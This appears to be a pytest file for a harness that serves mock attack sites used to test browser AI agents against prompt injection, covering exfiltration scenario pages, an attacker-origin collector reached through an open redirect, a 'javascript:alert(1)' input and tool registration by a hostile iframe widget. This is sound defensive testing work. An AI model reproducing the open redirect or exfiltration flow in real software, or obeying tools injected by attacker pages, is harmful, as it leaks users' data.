"""The attack sites: served together with the attacker, pages that know its origin, recorded
actions, the open redirect, and scenario pages whose tools register (no agent needed)."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator

import aiohttp
import pytest
from harness.sites.server import RunningSites, serve_sites

from harness import BrowserPool, Harness


@pytest.fixture(scope="module")
async def sites() -> AsyncIterator[RunningSites]:
    async with serve_sites(["notes", "store"]) as running:
        yield running


async def test_an_attack_site_brings_the_attacker_and_its_pages_name_its_origin(
    sites: RunningSites,
) -> None:
    assert list(sites.urls) == ["notes", "store", "attacker"]
    async with aiohttp.ClientSession() as http:
        async with http.get(sites.url("notes", "/s/result-exfil")) as response:
            page = await response.text()
        config = json.loads(re.search(r'id="config">(.*?)</script>', page).group(1))  # type: ignore[union-attr]
        assert config["attacker"] == sites.origin("attacker")
        assert config["scenario"] == "result-exfil"
        async with http.get(sites.url("store", "/")) as response:
            index = await response.text()
        assert 'href="/s/gift-card-leak"' in index and 'href="/s/form-autosubmit"' in index


async def test_actions_are_recorded_and_reset_and_the_open_redirect_forwards(
    sites: RunningSites,
) -> None:
    async with aiohttp.ClientSession() as http:
        async with http.post(sites.url("notes", "/api/act/email_note"), json={"to": "x"}) as r:
            assert (await r.json()) == {"ok": True, "id": 1}
        async with http.get(sites.url("notes", "/api/actions")) as r:
            assert (await r.json())["actions"] == [
                {"id": 1, "tool": "email_note", "args": {"to": "x"}}
            ]
        await sites.reset("notes")
        async with http.get(sites.url("notes", "/api/actions")) as r:
            assert (await r.json())["actions"] == []
        target = sites.url("attacker", "/collect")
        out = sites.url("notes", "/out") + f"?to={target}&data=hello"
        async with http.get(out, allow_redirects=False) as r:
            assert r.status == 302 and r.headers["Location"] == f"{target}?data=hello"
        async with http.get(sites.url("notes", "/out") + "?to=javascript:alert(1)") as r:
            assert r.status == 400


async def test_a_scenario_page_registers_its_tools_and_a_widget_s(
    browser_pool: BrowserPool, sites: RunningSites
) -> None:
    async with Harness(browsers=browser_pool, call_timeout=10) as harness:
        session = await harness.open(sites.url("notes", "/s/iframe-tool"))
        tool = await session.wait_for_tool("backup_notes", timeout=10)
        assert tool.origin == sites.origin("attacker")
        assert "list_notes" in [t.name for t in await session.tools()]
        blocked = await harness.open(sites.url("notes", "/s/iframe-no-permission"))
        await blocked.wait_for_tool("list_notes")
        # The widget's script has run (registered, or been refused) before we look …
        outcome = None
        for _ in range(200):
            frames = [f for f in blocked.page.frames if "/frame/prize" in f.url]
            if frames:
                outcome = await frames[0].evaluate(
                    "document.body && document.body.dataset.registration"
                )
            if outcome:
                break
            await asyncio.sleep(0.05)
        assert outcome is not None
        await asyncio.sleep(0.5)  # … and anything it registered had time to reach the catalog
        assert "claim_prize" not in [t.name for t in await blocked.tools()]
